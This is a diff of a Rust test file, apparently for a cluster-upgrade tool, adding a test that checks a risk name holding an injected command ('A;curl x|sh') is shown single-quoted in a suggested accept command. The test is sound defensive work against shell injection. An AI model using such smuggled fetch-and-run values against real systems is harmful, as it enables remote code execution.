@@ -102,6 +102,18 @@ fn a_risk_that_applies() {
 }
 
 #[test]
+fn a_name_of_others_is_one_word_in_a_command() {
+    let mut object = cluster();
+    let hostile = risk("A;curl x|sh", "True");
+    offer(&mut object, "5.2.8", &[hostile], recommended("False", "A", "So it is."));
+    let text = of_risk(&object, &Notes::NotThere, "A;curl x|sh");
+    assert_eq!(
+        paragraph(&text, "Not accepted.").lines().next(),
+        Some("Not accepted. `fairway upgrade accept 'A;curl x|sh'` takes it.")
+    );
+}
+
+#[test]
 fn a_risk_that_does_not() {
     insta::assert_snapshot!(of_risk(&cluster(), &Notes::NotThere, "SlowDisks"), @"
     SlowDisks: does not apply to this cluster, since 2h0m (Match)
